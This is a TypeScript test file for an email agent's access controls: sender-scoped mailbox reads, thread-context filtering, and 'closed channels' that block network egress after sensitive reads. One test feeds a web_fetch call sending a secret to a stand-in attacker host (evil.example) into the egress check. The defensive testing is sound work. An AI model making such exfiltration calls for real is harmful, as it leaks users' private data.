import { describe, expect, it } from "vitest";
import { z } from "zod";
import { closedChannelCheck, restrictedReadCheck } from "../../../shared/agent/channels/channels.ts";
import { egressChannel } from "../../../shared/agent/channels/egress-channel.ts";
import { createContextBuilder } from "../../../shared/agent/loop/context-builder.ts";
import { type MailScope, scopeForCall } from "../../../shared/agent/mailbox/mail-scope.ts";
import { createMailbox } from "../../../shared/agent/mailbox/mailbox.ts";
import type { ChannelState } from "../../../shared/agent/ports.ts";
import { makeWebFetchTool } from "../../../shared/tool-framework/builtin/web-fetch.ts";
import { ToolRegistry } from "../../../shared/tool-framework/registry.ts";
import { defineTool, success } from "../../../shared/tool-framework/tool.ts";
import { agent, config, replyRun } from "../../fakes/builders.ts";
import { recordingLogger } from "../../fakes/recording-logger.ts";
import { memoryState } from "../../fakes/state.ts";
import { addMessage, MemoryMailboxStore } from "../tools/memory-mailbox-store.ts";
import { AGENT, kit } from "./dispatch-harness.ts";

/**
 * Same eyes and closed channels (G18) on the fakes: what a run's mailbox, thread memory and network
 * tools may do, for each scope. The pipeline test (test/integration/same-eyes.test.ts) runs the same through SMTP.
 */

const CAROL = "carol@customer.example";
const MALLORY = "mallory@customer.example";
const bytes = (s: string) => new TextEncoder().encode(s);

function archive() {
  const store = new MemoryMailboxStore();
  addMessage(store, { agent: AGENT, threadId: "tc", from: CAROL, subject: "My address" }, "12 Elm Street", [
    { id: "att-carol", filename: "carol.txt", contentType: "text/plain", bytes: bytes("carol's file") },
  ]);
  addMessage(store, { agent: AGENT, threadId: "tm", from: MALLORY, subject: "Mine" }, "Elm is a tree", [
    { id: "att-mallory", filename: "m.txt", contentType: "text/plain", bytes: bytes("mallory's file") },
  ]);
  // The agent's reply to Carol, Bcc Mallory: Mallory got it, so she may see it (and only it of that thread).
  addMessage(
    store,
    {
      agent: AGENT,
      threadId: "tc",
      direction: "out",
      from: AGENT,
      to: [CAROL],
      bcc: [MALLORY],
      subject: "Re",
    },
    "Elm noted",
  );
  return store;
}

function mailboxFor(scope: MailScope, threadId: string | null = "tm") {
  const store = archive();
  const wider: string[] = [];
  const mailbox = createMailbox({
    ...store,
    agent: AGENT,
    threadId,
    runId: "run-1",
    scope,
    onWiderRead: async () => void wider.push("closed"),
  });
  return { mailbox, wider, store };
}

describe("the mailbox reads with the run's eyes", () => {
  it("a sender-scope search finds only mail the sender sent or got; nothing is wider, nothing closes", async () => {
    const { mailbox, wider } = mailboxFor({ kind: "sender", sender: MALLORY });
    const hits = await mailbox.search({ text: "elm", limit: 10 });
    expect(hits.map((h) => h.subject).sort()).toEqual(["Mine", "Re"]);
    expect(JSON.stringify(hits)).not.toContain("12 Elm");
    expect(wider).toEqual([]);
  });

  it("a sender-scope attachment lookup finds another sender's attachment nowhere, even with anyThread", async () => {
    const { mailbox } = mailboxFor({ kind: "sender", sender: MALLORY });
    expect(await mailbox.attachment("att-carol", { anyThread: true })).toBeNull();
    expect(await mailbox.attachment("att-mallory")).not.toBeNull();
  });

  it("the agent scope sees the whole archive and reports the wider read before returning it", async () => {
    const { mailbox, wider } = mailboxFor({ kind: "agent", sender: MALLORY });
    expect((await mailbox.search({ text: "elm", limit: 10 })).map((h) => h.subject).sort()).toEqual([
      "Mine",
      "My address",
      "Re",
    ]);
    expect(wider).toEqual(["closed"]);
    expect(await mailbox.attachment("att-carol", { anyThread: true })).not.toBeNull();
    expect(wider).toEqual(["closed", "closed"]);
  });

  it("an agent-scope read of the sender's own mail is not wider", async () => {
    const { mailbox, wider } = mailboxFor({ kind: "agent", sender: MALLORY });
    expect(await mailbox.search({ text: "is a tree", limit: 10 })).toHaveLength(1);
    expect(await mailbox.attachment("att-mallory")).not.toBeNull();
    expect(wider).toEqual([]);
  });

  it("a wider read that cannot be recorded returns nothing", async () => {
    const store = archive();
    const mailbox = createMailbox({
      ...store,
      agent: AGENT,
      threadId: "tm",
      runId: "run-1",
      scope: { kind: "agent", sender: MALLORY },
      onWiderRead: () => Promise.reject(new Error("state table down")),
    });
    await expect(mailbox.search({ text: "address", limit: 10 })).rejects.toThrow(/state table down/);
  });

  it("the `none` scope (a scheduled run by default) reads no stored mail at all", async () => {
    const { mailbox } = mailboxFor({ kind: "none" }, null);
    expect(await mailbox.search({ limit: 10 })).toEqual([]);
    expect(await mailbox.attachment("att-mallory", { anyThread: true })).toBeNull();
  });
});

describe("which scope a call gets", () => {
  const staff = kit("staff", ["search_emails"], { archiveScope: "agent" });
  const customers = kit("customers", ["search_emails"]);

  it("the sender's own, unless a toolkit that granted this very call widens it", () => {
    expect(scopeForCall(replyRun(), [customers])).toEqual({ kind: "sender", sender: "alice@example.com" });
    expect(scopeForCall(replyRun(), [customers, staff])).toEqual({
      kind: "agent",
      sender: "alice@example.com",
    });
  });

  it("a scheduled run reads what its responsibility declares: nothing by default", () => {
    const sched = (archiveScope: "none" | "agent") =>
      replyRun({
        sender: null,
        trigger: {
          kind: "responsibility",
          responsibility: {
            id: "d",
            agent: AGENT,
            schedule: "rate(1 day)",
            prompt: "p",
            enabled: true,
            archiveScope,
          },
        },
      });
    expect(scopeForCall(sched("none"), [staff])).toEqual({ kind: "none" });
    expect(scopeForCall(sched("agent"), [customers])).toEqual({ kind: "agent", sender: null });
  });
});

describe("thread memory shows only what the sender could see", () => {
  it("a message of the thread the sender was left off is not in their run's context", async () => {
    const store = new MemoryMailboxStore();
    const first = addMessage(
      store,
      { agent: AGENT, threadId: "t", from: CAROL, cc: ["dave@customer.example"] },
      "FIRST-FOR-DAVE-TOO",
    );
    addMessage(
      store,
      { agent: AGENT, threadId: "t", from: CAROL, inReplyTo: first.headerMessageId },
      "CAROL-ONLY",
    );
    const dave = addMessage(
      store,
      { agent: AGENT, threadId: "t", from: "dave@customer.example" },
      "DAVE-ASKS",
    );
    const builder = createContextBuilder({
      getMessage: (a, id) => store.messages.get(a, id),
      listThread: (a, t) => store.messages.listByThread(a, t),
      getText: (key) => store.blobs.getText(key),
      responsibility: () => null,
    });
    const run = replyRun({
      sender: { address: "dave@customer.example", routingKey: "dave@customer.example", displayName: "Dave" },
      trigger: {
        kind: "message",
        message: { id: dave.id, threadId: "t", subject: "Hello", headerMessageId: dave.headerMessageId },
      },
    });
    const text = JSON.stringify(await builder.initial(run, agent()));
    expect(text).toContain("FIRST-FOR-DAVE-TOO");
    expect(text).toContain("DAVE-ASKS");
    expect(text).not.toContain("CAROL-ONLY");
  });
});

function channelOf(closed: boolean): ChannelState & { closes: string[] } {
  const closes: string[] = [];
  let isClosed = closed;
  return {
    closes,
    close: async (_runId, because) => {
      closes.push(because);
      isClosed = true;
    },
    isClosed: async () => isClosed,
  };
}

describe("closed channels (G18)", () => {
  const registry = new ToolRegistry([makeWebFetchTool()]);
  const allowed = kit("staff", ["web_fetch"], { egressHosts: ["allowed.example"] });
  const call = (url: string, grantedBy = [allowed]) => ({ name: "web_fetch", input: { url }, grantedBy });

  it("an open run's network tools are not checked", async () => {
    const check = closedChannelCheck({ runId: "r", channel: channelOf(false), registry });
    expect((await check("input", call("https://evil.example/?q=secret"))).ok).toBe(true);
  });

  it("a closed run reaches only hosts a granting toolkit allows; anything else is refused before it runs", async () => {
    const check = closedChannelCheck({ runId: "r", channel: channelOf(true), registry });
    expect(await check("input", call("https://evil.example/?q=secret"))).toMatchObject({
      ok: false,
      reason: "egress-channel-closed",
    });
    expect((await check("input", call("https://ALLOWED.example/x"))).ok).toBe(true);
    // The allow-list belongs to the toolkit that granted the call, not to any toolkit of the agent.
    expect((await check("input", call("https://allowed.example/x", [kit("other", ["web_fetch"])]))).ok).toBe(
      false,
    );
    expect((await check("input", call("not a url"))).ok).toBe(false);
  });

  it("a result with a restricted data class closes the run's channels, whatever the model", async () => {
    const records = defineTool({
      name: "crm",
      description: "d",
      summary: "s",
      input: z.object({}),
      egress: {
        kind: "classified",
        record: true,
        classifyInput: () => [],
        classifyResult: (d) => ((d as { pii?: boolean }).pii ? ["pii"] : []),
      },
      sideEffects: { kind: "none" },
      use: async () => success({}),
    });
    const channel = channelOf(false);
    const check = restrictedReadCheck({
      runId: "r",
      channel,
      registry: new ToolRegistry([records]),
      policy: { ...config().egress, restrictedClasses: ["pii"] },
    });
    const result = (pii: boolean) => ({ ok: true as const, data: { pii } });
    expect((await check("result", { name: "crm", input: {}, result: result(false), grantedBy: [] })).ok).toBe(
      true,
    );
    expect(channel.closes).toEqual([]);
    expect((await check("result", { name: "crm", input: {}, result: result(true), grantedBy: [] })).ok).toBe(
      true,
    );
    expect(channel.closes).toEqual(["restricted-class"]);
  });

  it("closing is recorded once, traced once, and read back by a later round's channel", async () => {
    const state = memoryState();
    const events: string[] = [];
    const sink = { append: async (_r: string, e: { type: string }) => void events.push(e.type) };
    const deps = {
      state,
      trace: sink,
      logger: recordingLogger(),
      now: () => new Date("2026-11-30T12:00:00Z"),
    };
    const first = egressChannel(deps);
    expect(await first.isClosed("run-1")).toBe(false);
    await first.close("run-1", "archive-read");
    await first.close("run-1", "restricted-class");
    const later = egressChannel(deps);
    await later.close("run-1", "archive-read");
    expect(await later.isClosed("run-1")).toBe(true);
    expect(await later.isClosed("run-2")).toBe(false);
    expect(events).toEqual(["channel-closed"]);
  });
});
